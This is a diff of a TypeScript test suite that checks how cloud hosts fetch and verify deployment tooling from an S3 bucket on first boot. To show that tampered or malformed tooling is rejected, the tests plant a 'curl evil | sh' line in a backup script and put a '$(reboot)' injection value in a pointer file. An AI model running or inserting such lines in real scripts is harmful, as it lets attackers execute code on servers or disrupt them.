@@ -4,6 +4,7 @@ import * as fs from "fs";
 import * as os from "os";
 import * as path from "path";
 import { subnetCidrs } from "../components/network/cidr";
+import { toolingHash } from "../components/release/steps";
 import { hostFiles, writeOut } from "../scripts/preview/plan";
 import { NOURISHCTL_LIB_PATH, NOURISHCTL_LIB_SOURCE, NOURISHCTL_PATH, NOURISHCTL_SOURCE, nourishctlFiles } from "../components/hosts/user-data";
 import { parse } from "yaml";
@@ -90,21 +91,25 @@ describe("estate under mocks", () => {
     }
   });
 
-  it("delivers nourishctl through the tooling bucket: each host waits for its role's objects and fetches only those", () => {
-    const objects = ofType(prod, "aws:s3/bucketObjectv2:BucketObjectv2");
+  it("delivers nourishctl through the tooling bucket: each host waits for every tooling object and installs what tooling/current names", () => {
+    const objects = ofType(prod, "aws:s3/bucketObjectv2:BucketObjectv2").filter((o) => String(o.inputs.key).startsWith("tooling/"));
+    assert.ok(objects.length >= 4);
     for (const i of ofType(prod, "aws:ec2/instance:Instance")) {
       const role = (i.inputs.tags as Record<string, string>).role;
-      const mine = objects.filter((o) => (o.inputs.tags as Record<string, string>).role === role);
-      assert.ok(mine.length >= 2);
-      for (const o of mine) assert.ok(i.dependsOn.includes(o.urn), `${i.name} may boot before ${o.inputs.key} exists`);
+      for (const o of objects) assert.ok(i.dependsOn.includes(o.urn), `${i.name} may boot before ${o.inputs.key} exists`);
       const doc = hostFiles(prod).find((f) => f.role === role && f.path === "user-data.yaml")?.content ?? "";
-      assert.match(doc, new RegExp(`aws s3 cp --recursive --only-show-errors --region af-south-1 s3://tooling-[0-9a-f]+/tooling/${role}/ \\.`));
-      assert.ok(doc.indexOf("aws s3 cp") < doc.indexOf("/usr/local/sbin/nourishctl setup"), "setup runs before the tooling is fetched");
+      assert.match(doc, /s3:\/\/tooling-[0-9a-f]+\/tooling\/current/);
+      assert.ok(doc.indexOf("tooling/current") < doc.indexOf("/usr/local/sbin/nourishctl setup"), "setup runs before the tooling is fetched");
     }
     const bucket = one(prod, "aws:s3/bucket:Bucket", "tooling");
     const grants = ofType(prod, "aws:iam/rolePolicy:RolePolicy").filter((p) => p.name.endsWith("-tooling"));
-    assert.deepStrictEqual(grants.map((g) => JSON.parse(String(g.inputs.policy)).Statement[0].Resource).sort(),
-      [`arn:aws:s3:::${bucket.id}/tooling/app/*`, `arn:aws:s3:::${bucket.id}/tooling/db/*`]);
+    assert.strictEqual(grants.length, 2);
+    for (const g of grants) {
+      assert.deepStrictEqual(JSON.parse(String(g.inputs.policy)).Statement, [
+        { Sid: "ReadTooling", Effect: "Allow", Action: "s3:GetObject", Resource: `arn:aws:s3:::${bucket.id}/tooling/*` },
+        { Sid: "ListTooling", Effect: "Allow", Action: "s3:ListBucket", Resource: `arn:aws:s3:::${bucket.id}`, Condition: { StringLike: { "s3:prefix": ["tooling/*"] } } },
+      ]);
+    }
   });
 
   it("gives the database host's role only its own parameters", () => {
@@ -224,7 +229,7 @@ describe("host files, by the tools that read them", () => {
   });
 });
 
-describe("first boot installs the tooling only when it matches the sums in its user data (sh against s3rver)", function () {
+describe("first boot installs the version tooling/current names, only when it matches its manifest (sh against s3rver)", function () {
   this.timeout(300_000);
   const dir = fs.mkdtempSync(path.join(os.tmpdir(), "nl-firstboot-"));
   let prod: ProgramRun;
@@ -250,14 +255,13 @@ describe("first boot installs the tooling only when it matches the sums in its u
   /** The role's tooling runcmd entry from its rendered user data, then a line that shows whether first boot went on. */
   function firstBoot(role: "app" | "db") {
     const doc = parse(hostFiles(prod).find((f) => f.role === role && f.path === "user-data.yaml")!.content) as { runcmd: string[] };
-    const entry = doc.runcmd.find((c) => c.includes("aws s3 cp"));
+    const entry = doc.runcmd.find((c) => c.includes("tooling/current"));
     assert.ok(entry, `${role}: no tooling command in runcmd`);
+    // A sandbox root with the host.env cloud-init's write_files put there before runcmd runs.
     const root = fs.mkdtempSync(path.join(dir, `${role}-`));
-    // The host's paths moved under a sandbox root, and the aws CLI aimed at s3rver.
-    const script = entry.replaceAll(NOURISHCTL_LIB_PATH, `${root}${NOURISHCTL_LIB_PATH}`).replaceAll(NOURISHCTL_PATH, `${root}${NOURISHCTL_PATH}`)
-      .replace("aws s3 cp", `aws --endpoint-url ${s3.endpoint} s3 cp`);
-    fs.mkdirSync(path.join(root, path.dirname(NOURISHCTL_PATH)), { recursive: true });
-    const r = run("sh", ["-c", `${script}\necho first boot goes on`], { env: { ...process.env, ...s3.env, PATH: `/usr/bin:${process.env.PATH}` } });
+    fs.mkdirSync(path.join(root, "etc/nourish-link"), { recursive: true });
+    fs.writeFileSync(path.join(root, "etc/nourish-link/host.env"), `ROLE=${role}\n`);
+    const r = run("sh", ["-c", `${entry}\necho first boot goes on`], { env: { ...process.env, ...s3.env, S3_ENDPOINT: s3.endpoint, NOURISH_ROOT: root, PATH: `/usr/bin:${process.env.PATH}` } });
     return { ...r, root };
   }
 
@@ -274,17 +278,29 @@ describe("first boot installs the tooling only when it matches the sums in its u
     }
   });
 
-  it("stops first boot, installing nothing, when a file in the bucket differs from the sums in the user data", () => {
-    const key = `tooling/db/lib/backup.sh`;
+  it("stops first boot, installing nothing, when a file in the bucket differs from the manifest or the pointer names no version", () => {
+    const key = `tooling/${toolingHash()}/host/lib/backup.sh`;
     const tampered = path.join(dir, "tampered");
-    fs.writeFileSync(tampered, fs.readFileSync(path.join(NOURISHCTL_LIB_SOURCE, "backup.sh"), "utf8") + "\ncurl evil | sh\n");
-    assert.strictEqual(s3.aws(["s3", "cp", "--only-show-errors", tampered, `s3://${bucket}/${key}`]).status, 0);
-    const r = firstBoot("db");
-    assert.strictEqual(r.status, 1, r.stdout + r.stderr);
-    assert.match(r.stdout + r.stderr, /lib\/backup\.sh: FAILED/);
-    assert.match(r.stderr, new RegExp(`nourish-link: first boot stopped before nourishctl setup: the tooling from s3://${bucket}/tooling/db/ could not be fetched or does not match the SHA-256 sums in this host's user data`));
-    assert.doesNotMatch(r.stdout, /first boot goes on/);
-    assert.ok(!fs.existsSync(path.join(r.root, NOURISHCTL_PATH)), "the CLI was installed");
-    assert.ok(!fs.existsSync(path.join(r.root, NOURISHCTL_LIB_PATH)), "a library was installed");
+    const put = (k: string, content: string) => {
+      fs.writeFileSync(tampered, content);
+      assert.strictEqual(s3.aws(["s3", "cp", "--only-show-errors", tampered, `s3://${bucket}/${k}`]).status, 0);
+    };
+    const original = fs.readFileSync(path.join(NOURISHCTL_LIB_SOURCE, "backup.sh"), "utf8");
+    put(key, original + "\ncurl evil | sh\n");
+    try {
+      const r = firstBoot("db");
+      assert.strictEqual(r.status, 1, r.stdout + r.stderr);
+      assert.match(r.stdout + r.stderr, /lib\/backup\.sh: FAILED/);
+      assert.match(r.stderr, new RegExp(`nourish-link: first boot stopped before nourishctl setup: the tooling files under s3://${bucket}/tooling/${toolingHash()}/host/ do not match its manifest; nothing installed`));
+      assert.doesNotMatch(r.stdout, /first boot goes on/);
+      assert.ok(!fs.existsSync(path.join(r.root, NOURISHCTL_PATH)), "the CLI was installed");
+      assert.ok(!fs.existsSync(path.join(r.root, NOURISHCTL_LIB_PATH)), "a library was installed");
+    } finally {
+      put(key, original);
+    }
+    put("tooling/current", "$(reboot)\n");
+    const r = firstBoot("app");
+    assert.strictEqual(r.status, 1);
+    assert.match(r.stderr, new RegExp(`nourish-link: first boot stopped before nourishctl setup: s3://${bucket}/tooling/current does not name a tooling version`));
   });
 });
